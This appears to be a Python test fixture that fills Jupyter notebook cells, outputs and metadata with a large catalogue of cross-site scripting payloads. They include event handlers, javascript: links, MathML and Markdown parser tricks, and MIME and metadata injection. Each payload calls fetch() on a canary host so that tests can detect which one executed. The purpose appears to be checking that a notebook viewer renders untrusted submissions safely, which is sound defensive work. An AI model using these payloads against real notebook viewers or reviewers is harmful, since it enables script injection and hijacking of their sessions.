"""Payloads against those who look at a submission: each payload asks for an address that tells its name.

In a payload's text, RUN is replaced by JavaScript that asks for it, and FLAG by the address itself. Whatever is
asked for was loaded or run, and nothing of this may be.
"""

from __future__ import annotations

import base64
import json

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output, new_raw_cell

HOST = "http://flag.invalid"
SVG = '<svg xmlns="http://www.w3.org/2000/svg" onload="RUN"><script>RUN</script><image href="FLAG"/></svg>'
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
WIDGET = "application/vnd.jupyter.widget-view+json"
STATE = "application/vnd.jupyter.widget-state+json"

HTML = {
    "script": "<script>RUN</script>",
    "script_source": "<script src='FLAG'></script>",
    "image_error": "<img src=x onerror=\"RUN\">",
    "image_remote": "<img src='FLAG'>",
    "image_set": "<img srcset='FLAG 1x'>",
    "svg_load": "<svg onload=\"RUN\"></svg>",
    "svg_script": SVG,
    "svg_animate": "<svg><a xlink:href='javascript:RUN'><text y=20>x</text><animate attributeName=href values='javascript:RUN'/></a></svg>",
    "frame_source": "<iframe srcdoc=\"<script>RUN</script>\"></iframe>",
    "frame_data": "<iframe src=\"data:text/html,<script>RUN</script>\"></iframe>",
    "object": "<object data=\"data:text/html,<script>RUN</script>\"></object>",
    "embed": "<embed src=\"data:text/html,<script>RUN</script>\">",
    "focus": "<input autofocus onfocus=\"RUN\">",
    "details": "<details open ontoggle=\"RUN\">x</details>",
    "body": "<body onload=\"RUN\" onpageshow=\"RUN\">",
    "video": "<video onerror=\"RUN\"><source src=x></video>",
    "media": "<audio src='FLAG' autoplay></audio><video poster='FLAG'></video>",
    "refresh": "<meta http-equiv=refresh content='0;url=FLAG'>",
    "base": "<base href='FLAG/'><img src='x.png'>",
    "stylesheet": "<link rel=stylesheet href='FLAG'>",
    "style_import": "<style>@import url(FLAG); body { background: url(FLAG) }</style>",
    "style_attribute": "<p style=\"background: url(FLAG)\">x</p>",
    "table_background": "<table background='FLAG'><tr><td background='FLAG'>x</td></tr></table>",
    "form": "<form action=\"javascript:RUN\"><button>x</button><button formaction=\"javascript:RUN\">y</button></form>",
    "link": "<a href=\"javascript:RUN\">x</a>",
    "link_entity": "<a href=\"jav&#x09;ascript:RUN\">x</a><a href=\"&#14; javascript:RUN\">y</a>",
    "link_case": "<a href=\" JaVaScRiPt:RUN\">x</a>",
    "link_data": "<a href=\"data:text/html,<script>RUN</script>\">x</a>",
    "link_blank": "<a href=\"javascript:RUN\" target=_blank ping=FLAG>x</a>",
    "tooltip": "<a data-toggle=tooltip data-html=true title=\"<img src=x onerror=RUN>\">x</a>",
    "mouse": "<p onmouseover=\"RUN\" onclick=\"RUN\">x</p>",
    "comment": "<!--><img src=x onerror=\"RUN\">-->",
    "noscript": "<noscript><p title=\"</noscript><img src=x onerror=RUN>\"></noscript>",
    "textarea": "<textarea><p title=\"</textarea><img src=x onerror=RUN>\"></textarea>",
    "title": "<title><p title=\"</title><img src=x onerror=RUN>\"></title>",
    "math_style": "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=RUN&gt;\">",
    "math_annotation": "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=\"RUN\"></style></annotation-xml></math>",
    "math_action": "<math><maction actiontype=\"statusline#x\" xlink:href=\"javascript:RUN\">x</maction></math>",
    "math_link": "<math href=\"javascript:RUN\"><mi>x</mi></math>",
    "form_math": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=\"RUN\">",
    "template": "<template shadowrootmode=open><script>RUN</script></template>",
    "nested": "<svg></p><style><a id=\"</style><img src=1 onerror=RUN>\">",
    "broken": "<img src=x onerror=RUN //",
    "score": "<input class=\"score\" id=\"sigmoid_forward\" onfocus=\"RUN\" autofocus>",
}

MARKDOWN = {
    "link": "[x](javascript:RUN)",
    "link_angle": "[x](<javascript:RUN>)",
    "link_space": "[x]( java\tscript:RUN)",
    "link_entity": "[x](&#106;avascript:RUN) [y](javascript&colon;RUN)",
    "link_vb": "[x](vbscript:RUN) [y](livescript:RUN)",
    "link_data": "[x](data:text/html;base64,RUN64)",
    "link_title": "[x](http://a.invalid 'x\" onmouseover=\"RUN')",
    "link_file": "[x](evil.html) [y](../evil.html) <a href='/files/evil.html'>z</a> [u](//flag.invalid/x)",
    "reference": "[x][1]\n\n[1]: javascript:RUN \"x\"",
    "autolink": "<javascript:RUN>",
    "image_alt": "![x\" onerror=\"RUN](y.png)",
    "image_alt_html": "![<img src=x onerror=RUN>](y.png)",
    "image_remote": "![x](FLAG)",
    "image_data": "![x](data:image/svg+xml;base64,SVG64)",
    "image_link": "![x](javascript:RUN)",
    "attachment_svg": "![x](attachment:a.svg)",
    "attachment_html": "![x](attachment:a.html)",
    "attachment_png": "![x](attachment:a.png)",
    "attachment_missing": "![x](attachment:nowhere.png)",
    "fence_language": "```x\"><img/src=x/onerror=RUN>\ncode\n```",
    "fence_html": "```html\n<script>RUN</script>\n```",
    "mermaid": "```mermaid\ngraph TD\nA[\"<img src=x onerror=RUN>\"]\nclick A \"javascript:RUN\"\n```",
    "mermaid_html": "```mermaid\n</pre><img src=x onerror=\"RUN\">\n```",
    "math_link": "$\\href{javascript:RUN}{x}$ $$\\href{javascript:RUN}{x}$$",
    "math_text": "$\\text{<img src=x onerror=\"RUN\">}$",
    "math_closed": "$\\text{</mtext></math><img src=x onerror=\"RUN\">}$",
    "math_tree": "$\\text{<b onclick=\"RUN\">x</b><a href=\"javascript:RUN\">y</a>}$",
    "math_style": "$\\style{background: url(FLAG)}{x}$ $\\class{score}{x}$ $\\cssId{notebook}{x}$",
    "math_unicode": "$\\unicode{x\"><img src=x onerror=\"RUN\">}$",
    "math_token": "$\\mmlToken{mi}[onclick=\"RUN\"]{x}$ $\\require{action}\\toggle{a}{b}\\endtoggle$",
    "math_colour": "$\\color{red\" onclick=\"RUN}x$",
    "math_environment": "\\begin{align}\\text{<img src=x onerror=\"RUN\">}\\end{align}",
    "math_html": "$$</script><script>RUN</script>$$",
    "math_script": "<script type=\"math/tex\">\\href{javascript:RUN}{x}</script>",
    "table": "| <img src=x onerror=RUN> |\n| --- |\n| <script>RUN</script> |",
    "heading": "# <img src=x onerror=\"RUN\">",
    "definition": "x\n: <img src=x onerror=\"RUN\">",
}

OUTPUTS = {
    "svg": {"image/svg+xml": SVG},
    "javascript": {"application/javascript": "RUN"},
    "javascript_text": {"text/javascript": "RUN"},
    "latex": {"text/latex": "$\\href{javascript:RUN}{x}$<script>RUN</script>"},
    "markdown": {"text/markdown": "[x](javascript:RUN) <script>RUN</script>"},
    "mermaid": {"text/vnd.mermaid": "</pre><img src=x onerror=\"RUN\">"},
    "widget": {WIDGET: {"model_id": "m", "version_major": 2, "x": "</script><script>RUN</script>"}},
    "vega": {"application/vnd.vega.v5+json": {"data": [{"url": "FLAG"}], "marks": [{"type": "image"}]}},
    "vegalite": {"application/vnd.vegalite.v5+json": {"data": {"url": "FLAG"}, "mark": "bar"}},
    "geojson": {"application/geo+json": {"type": "Point", "coordinates": ["<img src=x onerror='RUN'>", 0]}},
    "json": {"application/json": {"<img src=x onerror='RUN'>": "<script>RUN</script>"}},
    "pdf": {"application/pdf": "PDF64"},
    "plotly": {"application/vnd.plotly.v1+json": {"data": [], "layout": {"title": "<img src=x onerror='RUN'>"}}},
    "bokeh": {"application/vnd.bokehjs_exec.v0+json": "", "application/javascript": "RUN"},
    "unknown": {"text/html\"><img src=x onerror=\"RUN\">": "x"},
    "plain": {"text/plain": "<script>RUN</script><img src=x onerror=\"RUN\">"},
    "plain_link": {"text/plain": "javascript:RUN \x1b]8;;javascript:RUN\x07x\x1b]8;;\x07"},
    "png": {"image/png": "\"><img src=x onerror=\"RUN\">"},
    "png_svg": {"image/png": "SVG64"},
    "jpeg": {"image/jpeg": "x' onerror='RUN"},
    "gif": {"image/gif": "\"><img src=x onerror=\"RUN\">"},
    "list": {"text/html": ["<script>", "RUN", "</script>"]},
}


def _filled(value: object, name: str) -> object:
    """Put a payload's name and address in."""
    run = f"fetch('{HOST}/{name}')"
    svg = SVG.replace("RUN", run).replace("FLAG", f"{HOST}/{name}")
    words = {
        "RUN64": base64.b64encode(f"<script>{run}</script>".encode()).decode(),
        "SVG64": base64.b64encode(svg.encode()).decode(),
        "PDF64": base64.b64encode(f"%PDF-1.4 1 0 obj<</OpenAction<</S/URI/URI({HOST}/{name})>>>>endobj".encode()).decode(),
        "RUN": run,
        "FLAG": f"{HOST}/{name}",
    }
    text = json.dumps(value)
    for word, filling in words.items():
        text = text.replace(word, json.dumps(filling)[1:-1])
    return json.loads(text)


def _cell(output: NotebookNode | dict[str, object]) -> NotebookNode:
    cell = new_code_cell("x")
    cell.outputs = [NotebookNode(output)]
    return cell


def _shown(data: object, metadata: dict[str, object] | None = None) -> NotebookNode:
    cell = _cell(new_output("display_data", metadata=metadata or {}))
    cell.outputs[0]["data"] = NotebookNode(data)
    return cell


def texts() -> dict[str, str]:
    """Return the text of each payload that is one, by name."""
    kinds = {"html": HTML, "markdown": MARKDOWN}
    return {
        f"{kind}.{name}": str(_filled(text, f"{kind}.{name}"))
        for kind, payloads in kinds.items()
        for name, text in payloads.items()
    }


def cells() -> dict[str, NotebookNode]:
    """Return a cell for each payload, by name."""
    found: dict[str, NotebookNode] = {}
    for name, html in HTML.items():
        found[f"html.{name}"] = _shown(_filled({"text/html": html, "text/plain": "x"}, f"html.{name}"))
        found[f"bare.{name}"] = _shown(_filled({"text/html": html}, f"bare.{name}"))
        found[f"block.{name}"] = new_markdown_cell(_filled(html, f"block.{name}"))
        found[f"inline.{name}"] = new_markdown_cell(_filled(f"Text {html} text", f"inline.{name}"))
    for name, source in MARKDOWN.items():
        found[f"markdown.{name}"] = new_markdown_cell(_filled(source, f"markdown.{name}"))
        found[f"markdown.{name}"]["attachments"] = NotebookNode(_filled(
            {"a.svg": {"image/svg+xml": "SVG64"}, "a.html": {"text/html": "RUN64"},
             "a.png": {"image/png": "\" onerror=\"RUN"}}, f"markdown.{name}"))  # fmt: skip
    for name, data in OUTPUTS.items():
        found[f"output.{name}"] = _shown(_filled(data, f"output.{name}"))
    return found | _odd_cells()


def _odd_cells() -> dict[str, NotebookNode]:
    """Return cells whose payload is not in what they show, but in what is said about it."""
    found: dict[str, NotebookNode] = {}

    def fill(name: str, value: object) -> object:
        return _filled(value, f"odd.{name}")

    attack = "\"><img src=x onerror=\"RUN\">"
    png = {"image/png": PNG}
    found["width"] = _shown(png, fill("width", {"image/png": {"width": "1 onload=RUN"}}))
    found["height"] = _shown(png, fill("height", {"image/png": {"height": "1 onload=RUN"}}))
    found["alt"] = _shown(png, fill("alt", {"image/png": {"alt": attack}}))
    found["filenames"] = _shown(png, fill("filenames", {"filenames": {"image/png": attack}}))
    found["isolated"] = _shown(
        fill("isolated", {"text/html": "<script>RUN</script>"}), {"text/html": {"isolated": True}}
    )
    for name in ("stdout", "stderr", attack):
        key = f"stream.{name if name.isalpha() else 'odd'}"
        found[key] = _cell(fill(key, {"output_type": "stream", "name": name, "text": f"<script>RUN</script>{attack}"}))
    found["error"] = _cell(fill("error", {
        "output_type": "error", "ename": attack, "evalue": attack, "traceback": [f"\x1b[31m{attack}", "<script>RUN</script>"],
    }))  # fmt: skip
    found["count"] = _cell(fill("count", {"output_type": "execute_result", "execution_count": attack,
                                          "data": {"text/plain": "x"}, "metadata": {}}))  # fmt: skip
    found["count"]["execution_count"] = fill("count", attack)
    found["source"] = new_code_cell(fill("source", "x = '</pre></div><script>RUN</script>'"))
    found["magic"] = new_code_cell(fill("magic", f"%%html\n<script>RUN</script>{attack}"))
    found["language"] = new_code_cell("x", metadata=fill("language", {"magics_language": attack}))
    found["tags"] = new_code_cell("x", metadata=fill("tags", {"tags": [attack]}))
    found["id"] = new_code_cell("x")
    found["id"]["id"] = fill("id", attack)
    found["raw"] = new_raw_cell(fill("raw", "<script>RUN</script>"), metadata={"raw_mimetype": "text/html"})
    return {f"odd.{name}": cell for name, cell in found.items()}


def metadata() -> NotebookNode:
    """Return metadata of a notebook that try the same."""
    attack = _filled("\"></title></script><img src=x onerror=\"RUN\">", "notebook.metadata")
    return NotebookNode(
        title=attack,
        authors=[{"name": attack}],
        kernelspec=NotebookNode(name=attack, display_name=attack, language=attack),
        language_info=NotebookNode(name=attack, pygments_lexer=attack),
        widgets=NotebookNode({STATE: NotebookNode(version_major=2, version_minor=0, state={"m": {"x": attack}})}),
    )
